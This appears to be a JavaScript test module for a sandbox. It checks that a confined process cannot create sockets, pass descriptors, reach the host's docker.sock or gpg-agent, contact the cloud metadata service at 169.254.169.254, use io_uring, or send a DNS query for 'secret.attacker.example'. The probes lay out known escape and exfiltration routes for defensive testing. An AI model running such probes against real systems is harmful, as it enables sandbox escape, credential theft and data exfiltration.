// Sockets: none can be made, so no address matters; the two that exist can carry bytes and nothing else.

import { createSocket } from 'node:dgram';
import { lookup, Resolver } from 'node:dns/promises';
import * as http from 'node:http';
import inspector from 'node:inspector';
import { connect, createServer } from 'node:net';
import { join } from 'node:path';
import { act, everywhere, FORBIDDEN, UNKNOWN } from './act.mjs';
import { addressOf, struct, sys } from './kernel.mjs';

const FAMILIES = { unix: 1, inet: 2, inet6: 10, netlink: 16, vsock: 40, alg: 38 };
const [STREAM, DATAGRAM, RAW, SEQPACKET] = [1, 2, 3, 5];
const SOL_SOCKET = 1;
const [SO_PEERCRED, SO_PEERPIDFD, SO_PEERGROUPS] = [17, 77, 59];
const LANE = 3;
const REACHED = ['done', 'ETIMEDOUT', 'EHOSTUNREACH', 'ENETUNREACH', 'ECONNREFUSED', 'hung', 'EINVAL'];

function dial(target) {
  return new Promise((done, failed) => {
    const socket = connect(target, () => {
      socket.destroy();
      done();
    });
    socket.once('error', failed);
    socket.setTimeout(1_000, () => {
      socket.destroy();
      failed(Object.assign(new Error('late'), { code: 'ETIMEDOUT' }));
    });
  });
}

function datagram(family, port, address) {
  return new Promise((done, failed) => {
    const socket = createSocket(family);
    socket.once('error', failed);
    socket.send('attack', port, address, (error) => {
      socket.close();
      if (error) failed(error);
      else done();
    });
  });
}

const lacksFamily = {
  EAFNOSUPPORT: 'this kernel has no such family',
  EPROTONOSUPPORT: 'this kernel has no such protocol',
  ESOCKTNOSUPPORT: 'this kernel has no such type',
};

const made = [
  act(19, 'a socket of family unix', () => void sys('socket', FAMILIES.unix, STREAM, 0), FORBIDDEN),
  act(19, 'a socket of family unix, datagrams', () => void sys('socket', FAMILIES.unix, DATAGRAM, 0), FORBIDDEN),
  act(19, 'a socket of family unix, packets', () => void sys('socket', FAMILIES.unix, SEQPACKET, 0), FORBIDDEN),
  act(19, 'a socket of family inet', () => void sys('socket', FAMILIES.inet, STREAM, 0), FORBIDDEN),
  act(19, 'a socket of family inet, datagrams', () => void sys('socket', FAMILIES.inet, DATAGRAM, 0), FORBIDDEN),
  act(19, 'a socket of family inet, ping', () => void sys('socket', FAMILIES.inet, DATAGRAM, 1), {
    ...FORBIDDEN,
    lacking: { EACCES: 'net.ipv4.ping_group_range leaves this user out' },
  }),
  act(19, 'a socket of family inet, multipath', () => void sys('socket', FAMILIES.inet, STREAM, 262), {
    ...FORBIDDEN,
    lacking: lacksFamily,
  }),
  act(19, 'a socket of family inet6', () => void sys('socket', FAMILIES.inet6, STREAM, 0), { ...FORBIDDEN, lacking: lacksFamily }),
  act(19, 'a socket of family netlink', () => void sys('socket', FAMILIES.netlink, RAW, 0), { ...FORBIDDEN, lacking: lacksFamily }),
  act(19, 'a socket of family vsock', () => void sys('socket', FAMILIES.vsock, STREAM, 0), { ...FORBIDDEN, lacking: lacksFamily }),
  act(19, 'a socket of family alg', () => void sys('socket', FAMILIES.alg, SEQPACKET, 0), { ...FORBIDDEN, lacking: lacksFamily }),
  act(19, 'a pair of sockets', () => void sys('socketpair', FAMILIES.unix, STREAM, 0, Buffer.alloc(8)), FORBIDDEN),
  act(
    19,
    'a server',
    () =>
      new Promise((done, failed) => {
        const server = createServer();
        server.once('error', failed);
        server.listen(0, '127.0.0.1', () => {
          server.close();
          done();
        });
      }),
    FORBIDDEN,
  ),
  act(
    19,
    'a server on a path',
    ({ home }) =>
      new Promise((done, failed) => {
        const server = createServer();
        server.once('error', failed);
        server.listen(join(home, 'attack.sock'), () => {
          server.close();
          done();
        });
      }),
    FORBIDDEN,
  ),
  act(
    19,
    'the debugger of Node',
    () => {
      inspector.open(0, '127.0.0.1');
      const url = inspector.url();
      if (url === undefined) return 'no debugger';
      inspector.close();
      return undefined;
    },
    everywhere('no debugger'),
  ),
];

/** One byte with a descriptor of ours beside it. */
function passDescriptor() {
  const byte = Buffer.from('x');
  const vector = struct(16, [0, 8, addressOf(byte)], [8, 8, 1]);
  // struct cmsghdr: length, SOL_SOCKET, SCM_RIGHTS; then the descriptor
  const control = struct(24, [0, 8, 20], [8, 4, SOL_SOCKET], [12, 4, 1], [16, 4, 1]);
  const header = struct(56, [16, 8, addressOf(vector)], [24, 8, 1], [32, 8, addressOf(control)], [40, 8, 24]);
  if (sys('sendmsg', LANE, header, 0) !== byte.length) throw new Error('nothing was sent');
}

const existing = [
  act(19, 'pass a descriptor over the lane (SCM_RIGHTS)', passDescriptor, FORBIDDEN),
  act(19, 'receive a descriptor over the lane', () => void sys('recvmsg', LANE, struct(56), 0x40), {
    ...FORBIDDEN,
    plain: ['done', 'EAGAIN'],
  }),
  act(19, 'send with flags over the lane', () => void sys('sendto', LANE, '', 0, 0, 0, 0), FORBIDDEN),
  act(
    19,
    'who is at the other end (SO_PEERCRED)',
    () => void sys('getsockopt', LANE, SOL_SOCKET, SO_PEERCRED, Buffer.alloc(12), struct(4, [0, 4, 12])),
    FORBIDDEN,
  ),
  act(
    19,
    'a descriptor of who is at the other end (SO_PEERPIDFD)',
    () => void sys('getsockopt', LANE, SOL_SOCKET, SO_PEERPIDFD, Buffer.alloc(4), struct(4, [0, 4, 4])),
    {
      ...FORBIDDEN,
      lacking: { ENOPROTOOPT: 'this kernel hands out no such descriptor' },
    },
  ),
  act(
    19,
    'groups of who is at the other end',
    () => void sys('getsockopt', LANE, SOL_SOCKET, SO_PEERGROUPS, Buffer.alloc(256), struct(4, [0, 4, 256])),
    FORBIDDEN,
  ),
  act(19, 'an option of the lane', () => void sys('setsockopt', LANE, SOL_SOCKET, 7, struct(4, [0, 4, 65_536]), 4), FORBIDDEN),
  act(19, 'another address for the lane', () => void sys('connect', LANE, struct(16, [0, 2, 1]), 2), {
    ...FORBIDDEN,
    plain: ['done', 'EINVAL', 'EISCONN', 'ECONNREFUSED'],
  }),
  act(19, 'a name for the lane', () => void sys('bind', LANE, struct(16, [0, 2, 1]), 2), { ...FORBIDDEN, plain: ['done', 'EINVAL'] }),
];

const dialled = [
  act(20, 'connect to a socket of the host (docker.sock)', ({ targets }) => dial({ path: targets.unix }), FORBIDDEN),
  act(20, 'connect to an abstract socket', ({ targets }) => dial({ path: `\0${targets.abstract}` }), FORBIDDEN),
  act(20, 'connect to the session bus', () => dial({ path: `/run/user/${process.getuid()}/bus` }), {
    ...FORBIDDEN,
    plain: ['done', 'ENOENT', 'ECONNREFUSED', 'EACCES'],
  }),
  act(20, 'connect to an agent for keys', ({ home }) => dial({ path: join(home, '.gnupg/S.gpg-agent') }), {
    ...FORBIDDEN,
    plain: ['done', 'ENOENT'],
  }),
  act(21, 'connect to a service on loopback', ({ targets }) => dial({ host: '127.0.0.1', port: targets.tcpPort }), FORBIDDEN),
  act(21, 'a datagram to loopback', ({ targets }) => datagram('udp4', targets.udpPort, '127.0.0.1'), FORBIDDEN),
  act(21, 'connect to the metadata service', () => dial({ host: '169.254.169.254', port: 80 }), { ...FORBIDDEN, plain: REACHED }),
  act(21, 'connect to the metadata service by IPv6', () => dial({ host: 'fd00:ec2::254', port: 80 }), {
    ...FORBIDDEN,
    plain: REACHED,
    lacking: lacksFamily,
  }),
  act(21, 'a datagram to the metadata service', () => datagram('udp4', 80, '169.254.169.254'), { ...FORBIDDEN, plain: REACHED }),
  act(
    21,
    'an HTTP request to loopback',
    ({ targets }) =>
      new Promise((done, failed) => {
        // The listener closes at once: a reset means that it was reached.
        http
          .get({ host: '127.0.0.1', port: targets.tcpPort })
          .once('error', ({ code }) => (code === 'ECONNRESET' ? done() : failed(Object.assign(new Error(code), { code }))));
      }),
    FORBIDDEN,
  ),
  act(
    21,
    'fetch from loopback',
    ({ targets }) =>
      fetch(`http://127.0.0.1:${targets.tcpPort}/`).then(
        () => undefined,
        ({ cause }) => {
          if (cause?.code !== 'UND_ERR_SOCKET' && cause?.code !== 'ECONNRESET') throw cause;
        },
      ),
    { ...FORBIDDEN, plain: REACHED },
  ),
  act(22, 'look up a name', () => lookup('localhost').then(() => undefined), {
    ...everywhere('EAI_AGAIN'),
    lacking: { EAI_AGAIN: 'this machine resolves no names', ENOTFOUND: 'this machine resolves no names' },
  }),
  act(
    22,
    'ask a name server',
    async ({ targets }) => {
      const resolver = new Resolver({ timeout: 300, tries: 1 });
      resolver.setServers([`127.0.0.1:${targets.udpPort}`]);
      await resolver.resolve4('secret.attacker.example');
    },
    { ...everywhere('ECONNREFUSED'), plain: 'ETIMEOUT' },
  ),
];

const rings = [
  act(23, 'a ring of requests to the kernel', () => void sys('io_uring_setup', 4, Buffer.alloc(120)), {
    ...UNKNOWN,
    lacking: { EPERM: 'kernel.io_uring_disabled forbids it to this user', ENOSYS: 'this kernel has no rings' },
  }),
  act(23, 'what such a ring offers', () => void sys('io_uring_register', -1, 0, 0, 0), {
    ...UNKNOWN,
    plain: ['EBADF', 'EINVAL', 'done'],
    lacking: { EPERM: 'kernel.io_uring_disabled forbids it to this user', ENOSYS: 'this kernel has no rings' },
  }),
];

export const acts = [...made, ...existing, ...dialled, ...rings];
